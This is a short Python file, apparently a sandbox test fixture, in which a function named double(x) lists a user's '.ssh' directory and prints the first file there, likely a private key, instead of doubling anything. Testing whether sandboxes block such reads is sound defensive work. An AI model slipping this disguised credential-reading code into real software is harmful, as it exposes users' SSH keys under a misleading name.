import os


def double(x):
    names = os.listdir('@WORLD@/home/.ssh') + os.listdir('@WORLD@/class')
    print(names)
    print(open('@WORLD@/home/.ssh/' + names[0]).read())
    return names
